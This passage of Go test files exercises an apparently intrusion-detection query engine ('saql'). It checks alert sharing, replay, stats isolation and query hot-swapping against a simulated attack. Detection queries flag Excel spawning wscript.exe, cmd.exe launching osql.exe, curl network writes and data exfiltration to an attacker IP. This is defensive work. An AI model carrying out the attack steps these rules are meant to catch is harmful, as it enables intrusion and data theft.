			t.Fatalf("AddQuery(%s): %v", nq.Name, err)
		}
	}

	alertsByQuery := map[string][]*Alert{}
	for _, ev := range events {
		for _, a := range eng.Process(ev) {
			alertsByQuery[a.Query] = append(alertsByQuery[a.Query], a)
		}
	}
	for _, a := range eng.Flush() {
		alertsByQuery[a.Query] = append(alertsByQuery[a.Query], a)
	}

	// Every rule query detects its step.
	for _, nq := range queries {
		if nq.Model != "rule" {
			continue
		}
		if len(alertsByQuery[nq.Name]) == 0 {
			t.Errorf("step %s: rule query %q raised no alert", nq.Step, nq.Name)
		}
	}

	// Invariant query catches Excel's unseen child (wscript.exe).
	invAlerts := alertsByQuery["anomaly-invariant-office-children"]
	if len(invAlerts) == 0 {
		t.Error("invariant query raised no alert for Excel's unseen child process")
	} else {
		found := false
		for _, a := range invAlerts {
			for _, nv := range a.Values {
				if nv.Val.SetContains("wscript.exe") {
					found = true
				}
			}
		}
		if !found {
			t.Errorf("invariant alerts do not name wscript.exe: %v", invAlerts[0])
		}
	}

	// Time-series query catches the abnormal network volume on db-1.
	if len(alertsByQuery["anomaly-timeseries-db-network"]) == 0 {
		t.Error("time-series query raised no alert for the exfiltration volume")
	}

	// Outlier query identifies the attacker IP as the odd peer.
	outAlerts := alertsByQuery["anomaly-outlier-db-peers"]
	if len(outAlerts) == 0 {
		t.Error("outlier query raised no alert")
	} else {
		found := false
		for _, a := range outAlerts {
			for _, nv := range a.Values {
				if nv.Val.String() == scenario.AttackerIP {
					found = true
				}
			}
		}
		if !found {
			t.Errorf("outlier alerts do not name the attacker IP: %v", outAlerts[0])
		}
	}

	// The scheduler shared the stream: fewer copies than queries×events.
	st := eng.Stats()
	if st.Queries != 8 {
		t.Errorf("queries = %d", st.Queries)
	}
	if st.SharingRatio < 1 {
		t.Errorf("sharing ratio = %.2f, want >= 1", st.SharingRatio)
	}
}

// TestRuleQueriesPrecision verifies the rule queries stay silent on a purely
// benign stream (no false positives on background noise).
func TestRuleQueriesPrecision(t *testing.T) {
	wl, err := NewWorkload(WorkloadConfig{
		Hosts: []Host{
			{AgentID: "ws-victim", Kind: Workstation},
			{AgentID: "db-1", Kind: DBServer},
			{AgentID: "web-1", Kind: WebServer},
		},
		Start:    demoStart,
		Duration: 20 * time.Minute,
		Seed:     7,
	})
	if err != nil {
		t.Fatal(err)
	}
	scenario := &AttackScenario{Workstation: "ws-victim", DBServer: "db-1", Start: demoStart}
	eng := New()
	for _, nq := range scenario.DemoQueries(30*time.Second, 5) {
		if nq.Model != "rule" {
			continue
		}
		if err := eng.AddQuery(nq.Name, nq.SAQL); err != nil {
			t.Fatal(err)
		}
	}
	var total int
	for {
		ev, ok := wl.Next()
		if !ok {
			break
		}
		total += len(eng.Process(ev))
	}
	total += len(eng.Flush())
	if total != 0 {
		t.Errorf("rule queries raised %d alerts on benign traffic, want 0", total)
	}
}

// TestStoreReplayDetection exercises the paper's replay workflow: collect
// the mixed stream into the store, then replay the db-server data at
// maximum speed into an engine running the exfiltration query.
func TestStoreReplayDetection(t *testing.T) {
	events, scenario := buildDemoStream(t, 20*time.Minute, 8*time.Minute)

	dir := filepath.Join(t.TempDir(), "store")
	store, err := OpenStore(dir, StoreOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if err := store.AppendAll(events); err != nil {
		t.Fatal(err)
	}
	if err := store.Close(); err != nil {
		t.Fatal(err)
	}

	// Re-open and replay only db-1, as the web UI's host selection would.
	store2, err := OpenStore(dir, StoreOptions{})
	if err != nil {
		t.Fatal(err)
	}
	rep := NewReplayer(store2)

	eng := New()
	var exfilQuery NamedQuery
	for _, nq := range scenario.DemoQueries(30*time.Second, 5) {
		if nq.Step == StepDataExfiltration {
			exfilQuery = nq
		}
	}
	if err := eng.AddQuery(exfilQuery.Name, exfilQuery.SAQL); err != nil {
		t.Fatal(err)
	}

	ch, wait := rep.ReplayChan(context.Background(), ReplayOptions{
		Hosts: []string{"db-1"},
		Speed: 0, // max speed
	}, 128)
	alerts, err := eng.Run(context.Background(), ch)
	if err != nil {
		t.Fatal(err)
	}
	stats, err := wait()
	if err != nil {
		t.Fatal(err)
	}
	if stats.Events == 0 {
		t.Fatal("replay delivered no events")
	}
	if len(alerts) == 0 {
		t.Error("replayed stream did not trigger the exfiltration query")
	}
	for _, a := range alerts {
		if !strings.Contains(a.String(), "172.16.0.129") {
			t.Errorf("alert missing attacker IP: %s", a)
		}
	}
}

// TestSharingVsBaselineAgreement runs the same queries through the shared
// scheduler, the unshared scheduler, and the generic-CEP baseline, and
// requires identical alert counts: sharing must be a pure optimisation.
func TestSharingVsBaselineAgreement(t *testing.T) {
	events, scenario := buildDemoStream(t, 15*time.Minute, 6*time.Minute)
	queries := scenario.DemoQueries(30*time.Second, 5)
	// Add semantically compatible variants (same patterns, different
	// thresholds) so the master–dependent scheme has sharing to exploit —
	// the situation the paper describes for concurrent analyst queries.
	outlier := queries[7]
	variant := outlier
	variant.Name = outlier.Name + "-strict"
	variant.SAQL = strings.Replace(outlier.SAQL, "ss.amt > 10000000", "ss.amt > 40000000", 1)
	queries = append(queries, variant)
	ts := queries[6]
	tsVariant := ts
	tsVariant.Name = ts.Name + "-strict"
	tsVariant.SAQL = strings.Replace(ts.SAQL, "> 1000000)", "> 8000000)", 1)
	queries = append(queries, tsVariant)

	shared := New(WithSharing(true))
	unshared := New(WithSharing(false))
	base := NewBaselineEngine()
	for _, nq := range queries {
		if err := shared.AddQuery(nq.Name, nq.SAQL); err != nil {
			t.Fatal(err)
		}
		if err := unshared.AddQuery(nq.Name, nq.SAQL); err != nil {
			t.Fatal(err)
		}
		cq, err := CompileQuery(nq.Name, nq.SAQL)
		if err != nil {
			t.Fatal(err)
		}
		base.Add(cq)
	}

	var nShared, nUnshared, nBase int
	for _, ev := range events {
		nShared += len(shared.Process(ev))
		nUnshared += len(unshared.Process(ev))
		nBase += len(base.Process(ev))
	}
	nShared += len(shared.Flush())
	nUnshared += len(unshared.Flush())
	nBase += len(base.Flush())

	if nShared != nUnshared || nShared != nBase {
		t.Errorf("alert counts diverge: shared=%d unshared=%d baseline=%d", nShared, nUnshared, nBase)
	}
	if nShared == 0 {
		t.Error("expected alerts from the demo scenario")
	}

	// Sharing must reduce stream copies relative to the naive count.
	st := shared.Stats()
	if st.StreamCopies >= st.NaiveCopies {
		t.Errorf("sharing produced no copy reduction: %d vs %d", st.StreamCopies, st.NaiveCopies)
	}
}

func TestValidate(t *testing.T) {
	if err := Validate(`proc p start proc q as e return p`); err != nil {
		t.Errorf("valid query rejected: %v", err)
	}
	if err := Validate(`proc p start proc q as e return zz`); err == nil {
		t.Error("invalid query accepted")
	}
	if err := Validate(`not a query`); err == nil {
		t.Error("garbage accepted")
	}
}

func TestEngineManagement(t *testing.T) {
	eng := New()
	if err := eng.AddQuery("a", `proc p start proc q as e return p`); err != nil {
		t.Fatal(err)
	}
	if err := eng.AddQuery("a", `proc p start proc q as e return p`); err == nil {
		t.Error("duplicate name accepted")
	}
	if k, ok := eng.QueryKind("a"); !ok || k != KindRule {
		t.Errorf("QueryKind = %v, %v", k, ok)
	}
	if !eng.RemoveQuery("a") {
		t.Error("RemoveQuery failed")
	}
	if eng.RemoveQuery("a") {
		t.Error("double remove succeeded")
	}
	if _, ok := eng.QueryStats("a"); ok {
		t.Error("stats for removed query")
	}
}

func TestAlertHandlerOption(t *testing.T) {
	var got []*Alert
	eng := New(WithAlertHandler(func(a *Alert) { got = append(got, a) }))
	if err := eng.AddQuery("starts", `proc p["%cmd.exe"] start proc q as e return p, q`); err != nil {
		t.Fatal(err)
	}
	ev := &Event{Time: demoStart, AgentID: "h", Subject: Process("cmd.exe", 1), Op: OpStart, Object: Process("osql.exe", 2)}
	ret := eng.Process(ev)
	if len(ret) != 1 || len(got) != 1 {
		t.Errorf("returned=%d callback=%d, want 1/1", len(ret), len(got))
	}
}
