package saql

// Regression tests for per-engine stats isolation and the source lifecycle:
// symbol-dictionary and string-fallback counters must be scoped to the
// engine that did the work (they were process globals once), finished
// sources must detach without losing their cumulative counters, and a
// closed engine must keep answering Stats/QueryStats with its final values.

import (
	"context"
	"sync"
	"testing"
	"time"
)

// runSampleSource ingests examples/auditd-replay/sample.log into eng through
// a fresh Source and waits for completion.
func runSampleSource(t *testing.T, eng *Engine) {
	t.Helper()
	src, err := OpenLogFile(sampleLogPath, WithFormat("auditd"), WithSourceAgent("db-1"))
	if err != nil {
		t.Fatal(err)
	}
	if err := src.Run(context.Background(), eng); err != nil {
		t.Fatal(err)
	}
}

// TestTwoEngineStatsIsolation runs two engines in one process concurrently:
// engine A ingests the auditd sample once, engine B twice. Every per-engine
// counter must reflect only its own engine's work (B exactly double A) —
// under the old process-global counters each engine reported the sum of
// both. Run with -race in CI: the counters are updated from source and
// runtime goroutines of both engines at once.
func TestTwoEngineStatsIsolation(t *testing.T) {
	newEng := func() *Engine {
		eng := New()
		if _, err := eng.Register("iso/exfil-volume", sampleQueries["exfil-volume"]); err != nil {
			t.Fatal(err)
		}
		if err := eng.Start(context.Background()); err != nil {
			t.Fatal(err)
		}
		return eng
	}
	a, b := newEng(), newEng()
	var wg sync.WaitGroup
	wg.Add(2)
	go func() {
		defer wg.Done()
		runSampleSource(t, a)
	}()
	go func() {
		defer wg.Done()
		runSampleSource(t, b)
		runSampleSource(t, b)
	}()
	wg.Wait()
	if err := a.Close(); err != nil {
		t.Fatal(err)
	}
	if err := b.Close(); err != nil {
		t.Fatal(err)
	}

	sa, sb := a.Stats(), b.Stats()
	if sa.SourceLines == 0 || sa.SourceEvents == 0 {
		t.Fatalf("engine A ingested nothing: %+v", sa)
	}
	if sa.SymbolHits+sa.SymbolMisses == 0 {
		t.Fatal("engine A interned no symbols — isolation test proves nothing")
	}
	type pair struct {
		name string
		a, b int64
	}
	for _, p := range []pair{
		{"SourceLines", sa.SourceLines, sb.SourceLines},
		{"SourceEvents", sa.SourceEvents, sb.SourceEvents},
		{"DecodeErrors", sa.DecodeErrors, sb.DecodeErrors},
		{"SymbolHits", sa.SymbolHits, sb.SymbolHits},
		{"SymbolMisses", sa.SymbolMisses, sb.SymbolMisses},
		{"SymbolEntries", int64(sa.SymbolEntries), int64(sb.SymbolEntries)},
		{"SymbolFallbacks", sa.SymbolFallbacks, sb.SymbolFallbacks},
		{"Events", sa.Events, sb.Events},
	} {
		if p.b != 2*p.a {
			t.Errorf("%s: B = %d, want exactly 2x A (%d) — counters are leaking across engines", p.name, p.b, p.a)
		}
	}
}

// TestSourceDetachKeepsCounters: a finished source detaches from the engine
// (Stats.Sources counts live sources only) but its counters stay in the
// engine's cumulative totals, accumulating across sources.
func TestSourceDetachKeepsCounters(t *testing.T) {
	eng := New()
	defer eng.Close()
	if err := eng.Start(context.Background()); err != nil {
		t.Fatal(err)
	}

	runSampleSource(t, eng)
	st := eng.Stats()
	if st.Sources != 0 {
		t.Errorf("Sources after Run = %d, want 0 (detached)", st.Sources)
	}
	if st.SourceLines == 0 || st.SourceEvents == 0 {
		t.Errorf("detach lost cumulative counters: %+v", st)
	}
	first := st

	runSampleSource(t, eng)
	st = eng.Stats()
	if st.Sources != 0 {
		t.Errorf("Sources after second Run = %d, want 0", st.Sources)
	}
	if st.SourceLines != 2*first.SourceLines || st.SourceEvents != 2*first.SourceEvents {
		t.Errorf("second source did not accumulate: lines %d events %d, want %d/%d",
			st.SourceLines, st.SourceEvents, 2*first.SourceLines, 2*first.SourceEvents)
	}
	if st.SymbolHits != 2*first.SymbolHits || st.SymbolMisses != 2*first.SymbolMisses {
		t.Errorf("symbol counters did not accumulate: %d/%d, want %d/%d",
			st.SymbolHits, st.SymbolMisses, 2*first.SymbolHits, 2*first.SymbolMisses)
	}
}

// TestStatsStableAfterClose: Stats and QueryStats answered after Close must
// equal the final pre-Close values instead of going stale or zero.
func TestStatsStableAfterClose(t *testing.T) {
	eng := New()
	if _, err := eng.Register("final/writes", perWriteAlertSrc); err != nil {
		t.Fatal(err)
	}
	if err := eng.Start(context.Background()); err != nil {
		t.Fatal(err)
	}
	batch := make([]*Event, 0, 10)
	for i := 0; i < 10; i++ {
		batch = append(batch, writeEvent(time.Duration(i)*time.Second, "curl", 500))
	}
	if err := eng.SubmitBatch(batch); err != nil {
		t.Fatal(err)
	}
	eng.Flush() // consistent point: all windows closed, all alerts out

	pre := eng.Stats()
	preQ, ok := eng.QueryStats("final/writes")
	if !ok {
		t.Fatal("QueryStats missing pre-Close")
	}
	if pre.Events != 10 || preQ.Alerts == 0 {
		t.Fatalf("pre-Close stats implausible: %+v / %+v", pre, preQ)
	}

	if err := eng.Close(); err != nil {
		t.Fatal(err)
	}

	post := eng.Stats()
	if post.Events != pre.Events || post.Alerts != pre.Alerts ||
		post.SymbolFallbacks != pre.SymbolFallbacks || post.Queries != pre.Queries {
		t.Errorf("Stats changed across Close:\npre:  %+v\npost: %+v", pre, post)
	}
	postQ, ok := eng.QueryStats("final/writes")
	if !ok {
		t.Fatal("QueryStats missing post-Close")
	}
	if postQ.Events != preQ.Events || postQ.Alerts != preQ.Alerts {
		t.Errorf("QueryStats changed across Close:\npre:  %+v\npost: %+v", preQ, postQ)
	}
	// Repeated post-Close reads stay stable.
	if again := eng.Stats(); again.Events != post.Events || again.Alerts != post.Alerts {
		t.Errorf("post-Close Stats not stable: %+v then %+v", post, again)
	}
}

// TestFallbackCounterPerEngine: string-fallback comparisons land on the
// engine whose query performed them, not on a process-wide counter.
func TestFallbackCounterPerEngine(t *testing.T) {
	busy, idle := New(), New()
	defer busy.Close()
	defer idle.Close()
	for _, eng := range []*Engine{busy, idle} {
		if _, err := eng.Register("fb/writes", `proc p["curl"] write ip i as e
alert e.amount > 100
return p`); err != nil {
			t.Fatal(err)
		}
	}
	// Hand-constructed events carry no interned symbols, so exe matching
	// falls back to string comparison — on the busy engine only.
	for i := 0; i < 20; i++ {
		busy.Process(writeEvent(time.Duration(i)*time.Second, "curl", 500))
	}
	if n := busy.Stats().SymbolFallbacks; n == 0 {
		t.Skip("no string fallbacks on this path — counter attribution not exercised")
	}
	if n := idle.Stats().SymbolFallbacks; n != 0 {
		t.Errorf("idle engine reports %d fallbacks it never performed", n)
	}
}
