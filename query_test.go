package saql

// Tests for the first-class query handle API: lifecycle, pause/resume,
// hot-swap with and without state carry, per-query alert streams, the
// subscription error sentinel, and the declarative Apply layer.

import (
	"context"
	"errors"
	"strings"
	"sync"
	"testing"
	"time"
)

const groupedSumSrc = `proc p write ip i as e #time(1 min)
state ss { amt := sum(e.amount) } group by p
alert ss.amt > 100
return p, ss.amt`

func writeEvent(at time.Duration, exe string, amount float64) *Event {
	return &Event{
		Time:    demoStart.Add(at),
		AgentID: "h",
		Subject: Process(exe, 7),
		Op:      OpWrite,
		Object:  NetConn("10.0.0.1", 1, "10.0.0.2", 2),
		Amount:  amount,
	}
}

func TestRegisterHandleBasics(t *testing.T) {
	eng := New()
	h, err := eng.Register("sum", groupedSumSrc, WithLabel("pack", "demo"), WithLabel("severity", "high"))
	if err != nil {
		t.Fatal(err)
	}
	if h.Name() != "sum" {
		t.Errorf("Name = %q", h.Name())
	}
	if h.Kind() != KindStateful {
		t.Errorf("Kind = %v", h.Kind())
	}
	if h.Placement() != PlaceByGroup {
		t.Errorf("Placement = %v", h.Placement())
	}
	if h.Source() != groupedSumSrc {
		t.Errorf("Source = %q", h.Source())
	}
	if l := h.Labels(); l["pack"] != "demo" || l["severity"] != "high" {
		t.Errorf("Labels = %v", l)
	}
	if h.Paused() || h.Closed() {
		t.Error("fresh handle reports paused/closed")
	}
	// Engine lookup returns the same handle.
	if got, ok := eng.Query("sum"); !ok || got != h {
		t.Error("Engine.Query did not return the registered handle")
	}
	if qs := eng.Queries(); len(qs) != 1 || qs[0] != h {
		t.Errorf("Engine.Queries = %v", qs)
	}
	// Duplicate registration fails.
	if _, err := eng.Register("sum", groupedSumSrc); err == nil {
		t.Error("duplicate Register accepted")
	}

	// Close retires the query and frees the name.
	if err := h.Close(); err != nil {
		t.Fatal(err)
	}
	if !h.Closed() {
		t.Error("handle not closed")
	}
	if err := h.Close(); err != nil {
		t.Errorf("second Close = %v, want nil (idempotent)", err)
	}
	if err := h.Pause(); !errors.Is(err, ErrQueryClosed) {
		t.Errorf("Pause after Close = %v, want ErrQueryClosed", err)
	}
	if err := h.Update(groupedSumSrc); !errors.Is(err, ErrQueryClosed) {
		t.Errorf("Update after Close = %v, want ErrQueryClosed", err)
	}
	if _, err := h.Stats(); !errors.Is(err, ErrQueryClosed) {
		t.Errorf("Stats after Close = %v, want ErrQueryClosed", err)
	}
	// Labels survive Close.
	if l := h.Labels(); l["pack"] != "demo" {
		t.Errorf("Labels after Close = %v", l)
	}
	// Name re-registers under a new handle; the old one stays dead.
	h2, err := eng.Register("sum", groupedSumSrc)
	if err != nil {
		t.Fatal(err)
	}
	if h2 == h {
		t.Error("re-registration reused the closed handle")
	}
	if !h.Closed() || h2.Closed() {
		t.Error("handle identity confused after re-registration")
	}
}

func TestPauseResumeSerial(t *testing.T) {
	eng := New()
	h, err := eng.Register("big", `proc p write ip i as e
alert e.amount > 10
return p, e.amount`)
	if err != nil {
		t.Fatal(err)
	}
	if n := len(eng.Process(writeEvent(0, "a.exe", 100))); n != 1 {
		t.Fatalf("active query raised %d alerts, want 1", n)
	}
	if err := h.Pause(); err != nil {
		t.Fatal(err)
	}
	if !h.Paused() {
		t.Error("Paused() = false after Pause")
	}
	if n := len(eng.Process(writeEvent(time.Second, "a.exe", 100))); n != 0 {
		t.Errorf("paused query raised %d alerts", n)
	}
	if err := h.Pause(); err != nil {
		t.Errorf("idempotent Pause = %v", err)
	}
	if err := h.Resume(); err != nil {
		t.Fatal(err)
	}
	if n := len(eng.Process(writeEvent(2*time.Second, "a.exe", 100))); n != 1 {
		t.Errorf("resumed query raised %d alerts, want 1", n)
	}
	// Stats: the paused event never reached the query.
	st, err := h.Stats()
	if err != nil {
		t.Fatal(err)
	}
	if st.Events != 2 {
		t.Errorf("Events = %d, want 2 (paused event skipped)", st.Events)
	}
}

// Pausing a stateful query freezes its state; Resume continues folding into
// the same windows.
func TestPauseRetainsState(t *testing.T) {
	eng := New()
	h, err := eng.Register("sum", groupedSumSrc)
	if err != nil {
		t.Fatal(err)
	}
	eng.Process(writeEvent(0, "a.exe", 60))
	if err := h.Pause(); err != nil {
		t.Fatal(err)
	}
	eng.Process(writeEvent(time.Second, "a.exe", 1000)) // skipped
	if err := h.Resume(); err != nil {
		t.Fatal(err)
	}
	eng.Process(writeEvent(2*time.Second, "a.exe", 60))
	alerts := eng.Flush()
	if len(alerts) != 1 {
		t.Fatalf("alerts = %d, want 1", len(alerts))
	}
	// 60 + 60 carried across the pause; the 1000 was never folded.
	if s := alerts[0].String(); !strings.Contains(s, "120") {
		t.Errorf("alert sum = %s, want 120", s)
	}
}

func TestUpdateHotSwapSerial(t *testing.T) {
	eng := New()
	h, err := eng.Register("sum", groupedSumSrc)
	if err != nil {
		t.Fatal(err)
	}
	eng.Process(writeEvent(0, "a.exe", 80))

	// Compile error: old query keeps running untouched.
	if err := h.Update(`garbage`); err == nil {
		t.Fatal("bad Update accepted")
	}
	if h.Source() != groupedSumSrc {
		t.Error("failed Update mutated the source")
	}

	// Fresh-state swap: the 80 is forgotten.
	fresh := strings.Replace(groupedSumSrc, "> 100", "> 150", 1)
	if err := h.Update(fresh); err != nil {
		t.Fatal(err)
	}
	if h.Source() != fresh {
		t.Errorf("Source after Update = %q", h.Source())
	}
	eng.Process(writeEvent(time.Second, "a.exe", 80))
	if alerts := eng.Flush(); len(alerts) != 0 {
		t.Errorf("fresh-state swap kept old sum: %v", alerts)
	}

	// Carry swap: state survives, only the threshold moves.
	eng2 := New()
	h2, err := eng2.Register("sum", groupedSumSrc)
	if err != nil {
		t.Fatal(err)
	}
	eng2.Process(writeEvent(0, "a.exe", 80))
	carried := strings.Replace(groupedSumSrc, "> 100", "> 150", 1)
	if err := h2.Update(carried, CarryWindowState()); err != nil {
		t.Fatal(err)
	}
	eng2.Process(writeEvent(time.Second, "a.exe", 80))
	alerts := eng2.Flush()
	if len(alerts) != 1 {
		t.Fatalf("carried swap lost state: %d alerts, want 1 (sum 160 > 150)", len(alerts))
	}

	// Incompatible carry: window length changed.
	widened := strings.Replace(groupedSumSrc, "#time(1 min)", "#time(2 min)", 1)
	if err := h2.Update(widened, CarryWindowState()); !errors.Is(err, ErrCarryIncompatible) {
		t.Errorf("carry across window change = %v, want ErrCarryIncompatible", err)
	}
	// Without the carry option the same update succeeds with fresh state.
	if err := h2.Update(widened); err != nil {
		t.Errorf("fresh-state update rejected: %v", err)
	}
}

func TestPerQuerySubscription(t *testing.T) {
	eng := New(WithShards(2))
	hBig, err := eng.Register("big", `proc p write ip i as e
alert e.amount > 10
return p, e.amount`)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := eng.Register("any", `proc p write ip i as e
alert e.amount > 0
return p`); err != nil {
		t.Fatal(err)
	}
	if err := eng.Start(context.Background()); err != nil {
		t.Fatal(err)
	}
	all := eng.Subscribe(64, Block)
	only := hBig.Subscribe(64, Block)
	var wg sync.WaitGroup
	var allGot, onlyGot []*Alert
	wg.Add(2)
	go func() {
		defer wg.Done()
		for a := range all.C {
			allGot = append(allGot, a)
		}
	}()
	go func() {
		defer wg.Done()
		for a := range only.C {
			onlyGot = append(onlyGot, a)
		}
	}()

	for i := 0; i < 10; i++ {
		amount := 5.0
		if i%2 == 0 {
			amount = 50
		}
		if err := eng.Submit(writeEvent(time.Duration(i)*time.Second, "a.exe", amount)); err != nil {
			t.Fatal(err)
		}
	}
	if err := eng.Close(); err != nil {
		t.Fatal(err)
	}
	wg.Wait()

	if len(allGot) != 15 { // 10 from "any" + 5 from "big"
		t.Errorf("engine-wide subscription got %d alerts, want 15", len(allGot))
	}
	if len(onlyGot) != 5 {
		t.Errorf("per-query subscription got %d alerts, want 5", len(onlyGot))
	}
	for _, a := range onlyGot {
		if a.Query != "big" {
			t.Errorf("per-query subscription leaked alert from %q", a.Query)
		}
	}
	if !errors.Is(only.Err(), ErrClosed) {
		t.Errorf("subscription Err after engine close = %v, want ErrClosed", only.Err())
	}
}

// The Subscribe-after-Close bugfix: dead subscriptions must say why.
func TestSubscriptionErrSentinels(t *testing.T) {
	eng := New()
	h, err := eng.Register("q", `proc p read file f return p`)
	if err != nil {
		t.Fatal(err)
	}
	live := eng.Subscribe(1, Block)
	if live.Err() != nil {
		t.Errorf("live subscription Err = %v, want nil", live.Err())
	}
	live.Close()
	if live.Err() != nil {
		t.Errorf("self-closed subscription Err = %v, want nil", live.Err())
	}

	perQuery := h.Subscribe(1, Block)
	if err := h.Close(); err != nil {
		t.Fatal(err)
	}
	if _, ok := <-perQuery.C; ok {
		t.Error("per-query subscription still open after handle close")
	}
	if !errors.Is(perQuery.Err(), ErrQueryClosed) {
		t.Errorf("per-query Err after handle close = %v, want ErrQueryClosed", perQuery.Err())
	}
	if dead := h.Subscribe(1, Block); !errors.Is(dead.Err(), ErrQueryClosed) {
		t.Errorf("Subscribe on closed handle Err = %v, want ErrQueryClosed", dead.Err())
	}

	if err := eng.Close(); err != nil {
		t.Fatal(err)
	}
	dead := eng.Subscribe(4, Block)
	if _, ok := <-dead.C; ok {
		t.Error("subscription to closed engine delivered an alert")
	}
	if !errors.Is(dead.Err(), ErrClosed) {
		t.Errorf("Subscribe on closed engine Err = %v, want ErrClosed", dead.Err())
	}
}

func TestApplyReconcile(t *testing.T) {
	mk := func(doc string) *QuerySet {
		t.Helper()
		qs, err := ParseQuerySet(doc)
		if err != nil {
			t.Fatal(err)
		}
		return qs
	}
	set1 := mk(`
param threshold = 100
query sum {
  proc p write ip i as e #time(1 min)
  state ss { amt := sum(e.amount) } group by p
  alert ss.amt > $threshold
  return p, ss.amt
}
query big {
  proc p write ip i as e
  alert e.amount > $threshold
  return p, e.amount
}`)

	eng := New(WithShards(2))
	if err := eng.Start(context.Background()); err != nil {
		t.Fatal(err)
	}
	defer eng.Close()

	rep, err := eng.Apply(context.Background(), set1)
	if err != nil {
		t.Fatal(err)
	}
	if len(rep.Added) != 2 || rep.Empty() {
		t.Fatalf("first Apply report = %s", rep)
	}
	hSum, ok := eng.Query("sum")
	if !ok {
		t.Fatal("applied query missing")
	}

	// Re-applying the identical set is a no-op with pointer-identical
	// handles.
	rep, err = eng.Apply(context.Background(), set1)
	if err != nil {
		t.Fatal(err)
	}
	if !rep.Empty() || len(rep.Unchanged) != 2 {
		t.Errorf("idempotent Apply report = %s", rep)
	}
	if h, _ := eng.Query("sum"); h != hSum {
		t.Error("unchanged Apply replaced the handle")
	}

	// Changed threshold: hot-swap. Dropped query: retired. New query: added.
	set2 := mk(`
param threshold = 500
query sum {
  proc p write ip i as e #time(1 min)
  state ss { amt := sum(e.amount) } group by p
  alert ss.amt > $threshold
  return p, ss.amt
}
query reads {
  proc p read file f return p, f
}`)
	rep, err = eng.Apply(context.Background(), set2)
	if err != nil {
		t.Fatal(err)
	}
	if len(rep.Updated) != 1 || rep.Updated[0] != "sum" {
		t.Errorf("Updated = %v", rep.Updated)
	}
	if len(rep.Added) != 1 || rep.Added[0] != "reads" {
		t.Errorf("Added = %v", rep.Added)
	}
	if len(rep.Removed) != 1 || rep.Removed[0] != "big" {
		t.Errorf("Removed = %v", rep.Removed)
	}
	if h, _ := eng.Query("sum"); h != hSum {
		t.Error("hot-swap replaced the handle")
	}
	if src := hSum.Source(); !strings.Contains(src, "> 500") {
		t.Errorf("swap did not land: %q", src)
	}
	if _, ok := eng.Query("big"); ok {
		t.Error("retired query still registered")
	}

	// An invalid set aborts with no changes.
	bad := NewQuerySet()
	if err := bad.Add("sum", groupedSumSrc); err != nil {
		t.Fatal(err)
	}
	if err := bad.Add("broken", `proc p read file f return p`); err != nil {
		t.Fatal(err)
	}
	// Corrupt the entry after validation to force a compile failure.
	bad.entries[1].src = "not a query"
	before := eng.Queries()
	if _, err := eng.Apply(context.Background(), bad); err == nil {
		t.Fatal("invalid set applied")
	}
	after := eng.Queries()
	if len(before) != len(after) {
		t.Errorf("failed Apply mutated the registry: %d -> %d", len(before), len(after))
	}

	// A failed Apply must not adopt unchanged manual queries either: the
	// invalid set above listed no manual names, so re-check with one that
	// does.
	if _, err := eng.Register("manual-probe", `proc p rename file f return p`); err != nil {
		t.Fatal(err)
	}
	probe := NewQuerySet()
	if err := probe.Add("manual-probe", `proc p rename file f return p`); err != nil {
		t.Fatal(err)
	}
	if err := probe.Add("probe-bad", `proc p read file f return p`); err != nil {
		t.Fatal(err)
	}
	probe.entries[1].src = "still not a query"
	if _, err := eng.Apply(context.Background(), probe); err == nil {
		t.Fatal("invalid probe set applied")
	}
	// Now apply set2 (which omits manual-probe): had the failed Apply
	// adopted it, this would retire it.
	if rep, err := eng.Apply(context.Background(), set2); err != nil {
		t.Fatal(err)
	} else if len(rep.Removed) != 0 {
		t.Errorf("failed Apply adopted a manual query; later Apply retired: %v", rep.Removed)
	}
	if h, _ := eng.Query("manual-probe"); h == nil {
		t.Error("manual query retired after failed Apply adoption")
	} else if err := h.Close(); err != nil {
		t.Fatal(err)
	}

	// Manually registered queries are not retired by Apply.
	if _, err := eng.Register("manual", `proc p read file f return distinct p`); err != nil {
		t.Fatal(err)
	}
	rep, err = eng.Apply(context.Background(), set2)
	if err != nil {
		t.Fatal(err)
	}
	if len(rep.Removed) != 0 {
		t.Errorf("Apply retired a manual query: %v", rep.Removed)
	}
	if _, ok := eng.Query("manual"); !ok {
		t.Error("manual query gone")
	}
}

func TestQuerySetHelpers(t *testing.T) {
	qs, err := ParseQueryOrSet("from-file", `proc p read file f return p`)
	if err != nil {
		t.Fatal(err)
	}
	if qs.Len() != 1 || qs.Names()[0] != "from-file" {
		t.Errorf("bare query wrap: %v", qs.Names())
	}
	set, err := ParseQueryOrSet("ignored", `query a { proc p read file f return p }
query b { proc p write file f return p }`)
	if err != nil {
		t.Fatal(err)
	}
	if set.Len() != 2 {
		t.Errorf("queryset doc: %v", set.Names())
	}
	if err := qs.Merge(set); err != nil {
		t.Fatal(err)
	}
	if qs.Len() != 3 {
		t.Errorf("merged len = %d", qs.Len())
	}
	if err := qs.Merge(set); err == nil {
		t.Error("duplicate merge accepted")
	}
	if src, ok := qs.Source("a"); !ok || !strings.Contains(src, "read file") {
		t.Errorf("Source(a) = %q, %v", src, ok)
	}
	// Semantic errors surface with the query name.
	if _, err := ParseQuerySet(`query bad { proc p read file f return zz }`); err == nil || !strings.Contains(err.Error(), `"bad"`) {
		t.Errorf("semantic error = %v, want named", err)
	}
}

// Update on a running sharded engine: carried state must survive the swap
// at a consistent point even while events are in flight.
func TestUpdateWhileRunningCarriesState(t *testing.T) {
	eng := New(WithShards(3))
	h, err := eng.Register("sum", `proc p write ip i as e #time(1 h)
state ss { amt := sum(e.amount) } group by p
alert ss.amt > 1000
return p, ss.amt`)
	if err != nil {
		t.Fatal(err)
	}
	if err := eng.Start(context.Background()); err != nil {
		t.Fatal(err)
	}
	var alerts []*Alert
	sub := eng.Subscribe(64, Block)
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		for a := range sub.C {
			alerts = append(alerts, a)
		}
	}()

	for i := 0; i < 10; i++ {
		if err := eng.Submit(writeEvent(time.Duration(i)*time.Second, "a.exe", 100)); err != nil {
			t.Fatal(err)
		}
	}
	// 1000 accumulated; tighten the threshold mid-stream with carry.
	if err := h.Update(`proc p write ip i as e #time(1 h)
state ss { amt := sum(e.amount) } group by p
alert ss.amt > 1500
return p, ss.amt`, CarryWindowState()); err != nil {
		t.Fatal(err)
	}
	for i := 10; i < 20; i++ {
		if err := eng.Submit(writeEvent(time.Duration(i)*time.Second, "a.exe", 100)); err != nil {
			t.Fatal(err)
		}
	}
